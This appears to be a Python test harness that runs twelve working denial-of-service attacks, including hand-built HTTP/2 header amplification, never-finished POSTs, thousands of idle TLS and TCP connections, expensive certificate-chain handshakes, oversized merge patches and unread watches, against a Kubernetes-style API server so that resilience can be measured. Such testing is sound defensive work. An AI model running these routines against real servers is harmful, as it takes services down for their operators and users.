# SPDX-License-Identifier: Apache-2.0
"""attackers.py NAME URL PKI: attacks the server at URL; attack.py measures what a good client meets meanwhile.

It says "ready" when the number of connections that it keeps has not changed for two seconds, and goes on until it is killed, five minutes
at most. What fails is tried again. Strangers have no credentials; users have the certificate user.crt from the directory PKI.
"""
import json
import os
import pathlib
import resource
import select
import socket
import ssl
import struct
import sys
import threading
import time
import urllib.parse

BIG = "/api/v1/namespaces/attack/configmaps"
HUGE = "/api/v1/namespaces/huge/configmaps"
PATIENCE = 10
LONGEST = 300


class H2:
    """Just enough of HTTP/2 to misuse it: frames by hand, nothing is read unless asked for."""

    def __init__(self, attacker, window=65535):
        self.sock = attacker.connect("h2")
        self.stream = 1
        self.sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + self.frame(4, 0, 0, struct.pack(">HI", 4, window)) + self.frame(4, 1, 0))

    @staticmethod
    def frame(kind, flags, stream, payload=b""):
        return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload

    @staticmethod
    def number(n, bits, first=0):
        top = (1 << bits) - 1
        if n < top:
            return bytes([first | n])
        out, n = bytes([first | top]), n - top
        while n >= 128:
            out, n = out + bytes([n & 127 | 128]), n >> 7
        return out + bytes([n])

    def literal(self, name, value, indexed=False):
        return (b"\x40" if indexed else b"\x00") + b"".join(self.number(len(s), 7) + s for s in (name.encode(), value.encode()))

    def request(self, path, method="GET", extra=b"", end=True):
        block = b"".join(self.literal(k, v) for k, v in ((":method", method), (":scheme", "https"), (":authority", "a"), (":path", path)))
        self.sock.sendall(self.frame(1, 5 if end else 4, self.stream, block + extra))
        self.stream += 2

    def requests(self, n, path):
        """The same GET n times, in one write."""
        block = b"".join(self.literal(k, v) for k, v in ((":method", "GET"), (":scheme", "https"), (":authority", "a"), (":path", path)))
        self.sock.sendall(b"".join(self.frame(1, 5, self.stream + 2 * i, block) for i in range(n)))
        self.stream += 2 * n


class Attacker:
    """Each method that takes no argument and has a name of ATTACKS is an attack."""

    def __init__(self, url, pki):
        self.url, self.pki = urllib.parse.urlsplit(url), pathlib.Path(pki)
        self.end = time.monotonic() + LONGEST
        self.kept, self.user, self.chain, self.contexts = [], False, None, {}
        resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)

    def announce(self):
        last = -1
        while len(self.kept) != last:
            last = len(self.kept)
            time.sleep(2)
        print("ready", flush=True)

    def dial(self):
        return socket.create_connection((self.url.hostname, self.url.port), timeout=PATIENCE)

    def context(self, alpn):
        context = ssl.create_default_context(cafile=self.pki / "ca.crt")
        context.set_alpn_protocols([alpn])
        if self.user:
            context.load_cert_chain(self.pki / "user.crt", self.pki / "user.key")
        if self.chain:
            context.load_cert_chain(self.chain)
        return context

    def connect(self, alpn="http/1.1"):
        if alpn not in self.contexts:
            self.contexts[alpn] = self.context(alpn)
        return self.contexts[alpn].wrap_socket(self.dial(), server_hostname="127.0.0.1")

    def left(self):
        return self.end - time.monotonic()

    def crowd(self, n, one, pause=0.05):
        """n threads that call one() again and again, in turn. Without the pause the load would be mostly handshakes."""
        def run(i):
            time.sleep(pause * i / n)
            while self.left() > 0:
                try:
                    one()
                except OSError:
                    pass
                time.sleep(pause)
        threads = [threading.Thread(target=run, args=(i,), daemon=True) for i in range(n)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(max(0, self.left()) + PATIENCE)

    def hold_once(self, n, one):
        """Keeps the results of n calls of one(). Those that fail count, too."""
        for _ in range(n):
            try:
                self.kept.append(one())
            except OSError:
                time.sleep(0.01)

    def hold(self, n, one):
        """The same, and then waits."""
        self.hold_once(n, one)
        time.sleep(max(0, self.left()))

    # -- strangers --

    def query(self):
        """48 connections, each GET /livez? with 56 kB of empty names, again and again."""
        text = f"GET /livez?{'exclude&' * 7000} HTTP/1.1\r\nHost: a\r\n\r\n".encode()

        def one():
            with self.connect() as sock:
                sock.settimeout(120)
                sock.sendall(text)
                while sock.recv(65536):
                    sock.sendall(text)
        self.crowd(48, one)

    def heads(self):
        """40 connections with 250 requests each, whose heads are a few bytes that become 60 kB, and whose bodies never come."""
        def one():
            h2 = H2(self)
            big = h2.literal("x-big", "v" * 3000, indexed=True)
            h2.request("/livez", "POST", big + b"\xbe" * 18, end=False)
            for _ in range(249):
                h2.request("/livez", "POST", b"\xbe" * 19, end=False)
            return h2
        self.hold(40, one)

    def posts(self):
        """112 anonymous POSTs of 3 MiB whose last byte never comes; a refused one is tried again."""
        def one():
            with self.connect() as sock:
                sock.settimeout(120)
                sock.sendall(b"POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
                             b"Content-Length: 3145728\r\n\r\n" + b" " * 3145727)
                sock.recv(65536)
        self.crowd(112, one, pause=1)

    def keep(self, n, one, per_second):
        """Keeps n results of one(), which are sockets, at most per_second new ones a second once there were n: the server closes some."""
        self.hold_once(n, one)
        while self.left() > 0:
            time.sleep(1)
            self.kept = self.open(self.kept)
            for _ in range(min(per_second, n - len(self.kept))):
                try:
                    self.kept.append(one())
                except OSError:
                    pass

    @staticmethod
    def open(sockets):
        """Those that the server has not closed. It sends nothing unasked, so one that can be read is closed."""
        poll, by_number = select.poll(), {sock.fileno(): sock for sock in sockets}
        for number in by_number:
            poll.register(number, select.POLLIN)
        for number, _ in poll.poll(0):
            by_number.pop(number).close()
        return list(by_number.values())

    def idle_tls(self):
        """8,000 TLS connections that ask nothing."""
        self.keep(8000, self.connect, 50)

    def silent_tcp(self):
        """3,000 TCP connections that say nothing."""
        self.keep(3000, self.dial, 1000)

    def chains(self):
        """Eight clients that shake hands again and again, with a client certificate of 20 issuers whose RSA keys have
        16,384 bits."""
        self.chain = self.pki / "chain.pem"

        def one():
            with self.connect() as sock:
                sock.sendall(b"GET /livez HTTP/1.1\r\nHost: a\r\n\r\n")
                sock.recv(1000)
        self.crowd(8, one)

    # -- users --

    def patch(self, kind, patch):
        """Two clients that send a patch of c0 again and again, as a dry run, and read little of the answer."""
        self.user = True
        body = json.dumps(patch, separators=(",", ":"))
        text = (f"PATCH {BIG}/c0?dryRun=All HTTP/1.1\r\nHost: a\r\nContent-Type: application/{kind}-patch+json\r\n"
                f"Content-Length: {len(body)}\r\n\r\n{body}").encode()

        def one():
            with self.connect() as sock:
                sock.settimeout(120)
                sock.sendall(text)
                sock.recv(65536)
        self.crowd(2, one)

    def patches(self):
        """Merges of 40,000 new keys."""
        self.patch("merge", {"data": {f"key-{i:06}": "v" for i in range(40000)}})

    def huge_patches(self):
        """Merges of 200,000 new keys."""
        self.patch("merge", {"data": {f"k{i}": "" for i in range(200000)}})

    def deep_lists(self):
        """Strategic merges of a list whose 20,000 elements are deep, and have no keys that could be compared."""
        deep = {"a": {"b": {"c": [{"d": 1}] * 10}}}
        self.patch("strategic-merge", {"metadata": {"ownerReferences": [{"uid": deep}] * 20000}})

    def slow_readers(self):
        """20 lists of 106 MB, of each of which 160 KB are read in a second."""
        self.user = True

        def one():
            sock = self.connect()
            sock.sendall(f"GET {HUGE} HTTP/1.1\r\nHost: a\r\n\r\n".encode())
            return sock
        self.hold_once(20, one)
        while self.left() > 0:
            time.sleep(0.1)
            for sock in self.kept:
                try:
                    sock.recv(16384)
                except OSError:
                    pass

    def readers(self):
        """Two connections with 200 lists of a megabyte each, of which nothing is read."""
        self.user = True

        def one():
            h2 = H2(self)
            h2.requests(200, BIG)
            return h2
        self.hold(2, one)

    def watches(self):
        """50 connections with 200 watches of a thousand objects each, of which nothing is read."""
        self.user = True

        def one():
            h2 = H2(self, window=0)
            h2.requests(200, f"{BIG}?watch=1&resourceVersion=0")
            return h2
        self.hold(50, one)


ATTACKS = {  # and how the table names them
    "query": "queries of empty names",
    "heads": "heads small on the wire only",
    "posts": "POSTs that never end",
    "idle_tls": "8,000 idle TLS connections",
    "silent_tcp": "3,000 silent TCP connections",
    "chains": "expensive certificate chains",
    "patches": "patches with 40,000 keys",
    "huge_patches": "patches with 200,000 keys",
    "deep_lists": "patches with lists of deep elements",
    "readers": "400 lists that nobody reads",
    "watches": "10,000 watches that nobody reads",
    "slow_readers": "20 slow readers of a 106 MB list",
}

def give_way():
    """Makes this process run only while the server, the store and the good client need no processor. The policy alone (SCHED_IDLE) has that effect only
    among the processes of one session, because Linux divides the processors among sessions first. So this process gets a session of its own, with
    the least weight."""
    os.setsid()
    try:
        pathlib.Path("/proc/self/autogroup").write_text("19", encoding="ascii")
    except OSError:
        pass  # this kernel, or the group of the process, has no such division
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))


if __name__ == "__main__":
    name, url, pki = sys.argv[1:]
    give_way()
    attacker = Attacker(url, pki)
    threading.Thread(target=attacker.announce, daemon=True).start()
    getattr(attacker, name)()
